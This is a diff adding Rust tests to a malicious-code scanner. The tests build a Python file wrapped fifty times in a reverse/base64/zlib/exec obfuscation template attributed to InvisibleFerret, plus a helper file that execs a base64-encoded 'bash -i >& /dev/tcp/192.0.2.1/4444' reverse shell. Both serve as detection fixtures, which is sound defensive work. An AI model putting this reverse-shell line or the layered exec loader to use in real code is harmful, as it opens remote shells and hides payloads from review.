@@ -218,3 +218,78 @@ fn rules_and_explain_come_from_the_rule_docs() {
     assert!(text.contains("## Why it matters"));
     assert!(text.contains("reverse-shell"));
 }
+
+/// InvisibleFerret's template, nested 50 times: reverse → base64 → zlib → exec.
+#[test]
+fn fifty_layers_are_undone_and_the_chain_names_every_step() {
+    use base64::Engine;
+    use std::io::Write;
+    let mut code = String::from("print('hi')\n");
+    for _ in 0..50 {
+        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        z.write_all(code.as_bytes()).unwrap();
+        let b64 = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
+        let reversed: String = b64.chars().rev().collect();
+        code = format!(
+            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{reversed}'))\n"
+        );
+    }
+    let dir = tmp();
+    fs::write(dir.path().join("main99.py"), &code).unwrap();
+    let (code, r) = scan_json(&[dir.path().join("main99.py").to_str().unwrap()]);
+    assert_eq!(code, 1);
+    let deepest = r["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "HS101")
+        .map(|f| f["chain"].as_array().unwrap().len())
+        .max()
+        .unwrap();
+    assert_eq!(deepest, 150, "{:#}", r["findings"]);
+    let f = r["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "HS101")
+        .unwrap();
+    assert_eq!(f["line"], 1);
+    assert_eq!(f["severity"], "critical");
+    let chain: Vec<&str> = f["chain"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s.as_str().unwrap())
+        .collect();
+    assert_eq!(&chain[..3], &["reverse", "base64", "zlib"]);
+}
+
+#[test]
+fn a_payload_decoded_from_a_literal_is_analysed_again() {
+    // The stage hidden in the blob starts a reverse-shell one-liner; the file
+    // itself only decodes and execs.
+    use base64::Engine;
+    let stage = "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n";
+    let blob = base64::engine::general_purpose::STANDARD.encode(stage);
+    let dir = tmp();
+    fs::write(
+        dir.path().join("helper.py"),
+        format!(
+            "import base64\nPAYLOAD = '{blob}'\n\ndef run():\n    exec(base64.b64decode(PAYLOAD))\n"
+        ),
+    )
+    .unwrap();
+    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
+    let shell = r["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "HS108")
+        .unwrap_or_else(|| panic!("no HS108 in the decoded layer: {:#}", r["findings"]));
+    assert_eq!(
+        shell["line"], 5,
+        "points at the expression holding the payload"
+    );
+    assert_eq!(shell["chain"], serde_json::json!(["base64"]));
+    assert_eq!(shell["severity"], "critical");
+}
